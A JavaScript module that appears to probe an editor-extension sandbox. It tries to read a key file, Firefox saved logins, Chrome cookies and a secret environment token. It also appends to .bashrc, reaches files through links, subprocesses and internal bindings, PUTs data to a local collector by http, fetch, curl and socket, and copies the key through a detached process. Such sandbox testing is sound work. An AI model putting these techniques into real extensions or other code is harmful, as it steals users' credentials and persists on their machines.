// No API of the editor: what every program could try.
"use strict";
const fs = require("node:fs");
const http = require("node:http");
const net = require("node:net");
const { execFileSync, spawn } = require("node:child_process");
const { Worker } = require("node:worker_threads");
const { attack } = require("./attack");

exports.activate = (context) =>
  attack(context, "node", {
    read: ({ key }) => fs.readFileSync(key, "utf8"),
    other: ({ other }) => fs.readFileSync(`${other}/notes.txt`, "utf8"),
    firefox: ({ home }) => fs.readFileSync(`${home}/.mozilla/firefox/x/logins.json`, "utf8"),
    chrome: ({ home }) => fs.readFileSync(`${home}/.config/google-chrome/Default/Cookies`, "utf8"),
    invisible: ({ key }) => require("./invisible")(key),
    environment: () => process.env.SECRET_TOKEN ?? "none",
    write: ({ other }) => fs.writeFileSync(`${other}/node.write`, "x"),
    startup: ({ home }) => fs.appendFileSync(`${home}/.bashrc`, "echo node.startup\n"),
    symlink({ key, workspace }) {
      fs.symlinkSync(key, `${workspace}/.proof/node-link`);
      return fs.readFileSync(`${workspace}/.proof/node-link`, "utf8");
    },
    hardlink({ key, workspace }) {
      fs.linkSync(key, `${workspace}/.proof/node-hard`);
      return fs.readFileSync(`${workspace}/.proof/node-hard`, "utf8");
    },
    cat: ({ key }) => execFileSync("cat", [key], { encoding: "utf8" }),
    catAbsolute: ({ key }) => execFileSync("/bin/cat", [key], { encoding: "utf8" }),
    ownNode: ({ key }) => execFileSync(process.execPath, ["-e", `process.stdout.write(require("fs").readFileSync(${JSON.stringify(key)}))`], { encoding: "utf8", env: { ...process.env, ELECTRON_RUN_AS_NODE: "1" } }),
    worker: ({ key }) =>
      new Promise((resolve, reject) => {
        const worker = new Worker(`require("node:worker_threads").parentPort.postMessage(require("node:fs").readFileSync(${JSON.stringify(key)}, "utf8"))`, { eval: true });
        worker.once("message", resolve);
        worker.once("error", reject);
      }),
    binding({ key }) {
      const { spawn: SpawnSync } = process.binding("spawn_sync");
      const { output } = SpawnSync({ file: "/bin/cat", args: ["cat", key], envPairs: [], stdio: [{ type: "pipe", readable: true, writable: false }, { type: "pipe", readable: false, writable: true }, { type: "pipe", readable: false, writable: true }] });
      return String(output?.[1] ?? "");
    },
    put: ({ collector, mark }) =>
      new Promise((resolve, reject) => {
        const request = http.request({ host: "127.0.0.1", port: collector, path: `/${mark}`, method: "PUT" }, (answer) => resolve(answer.statusCode));
        request.on("error", reject);
        request.end("taken");
      }),
    fetch: ({ collector, mark }) => fetch(`http://localhost:${collector}/${mark}`, { method: "PUT", body: "taken" }).then((answer) => answer.status),
    curl: ({ collector, mark }) => execFileSync("curl", ["-sS", "-m", "5", "-X", "PUT", "-d", "taken", `http://127.0.0.1:${collector}/${mark}`], { encoding: "utf8" }),
    socket: ({ collector, mark }) =>
      new Promise((resolve, reject) => {
        const socket = net.connect(collector, "127.0.0.1", () => socket.end(`${mark}\r\n\r\n`, () => resolve("connected")));
        socket.on("error", reject);
      }),
    // What goes on when the window is gone.
    detached({ key, loot, mark }) {
      spawn(process.execPath, ["-e", `require("fs").copyFileSync(${JSON.stringify(key)}, ${JSON.stringify(`${loot}/${mark}`)})`], { detached: true, stdio: "ignore", env: { ...process.env, ELECTRON_RUN_AS_NODE: "1" } }).unref();
      return new Promise((resolve) => setTimeout(() => resolve("started"), 1000));
    },
    parent: () => {
      process.kill(process.ppid, 0);
      return fs.readFileSync(`/proc/${process.ppid}/cmdline`, "utf8").replaceAll("\0", " ");
    },
  });
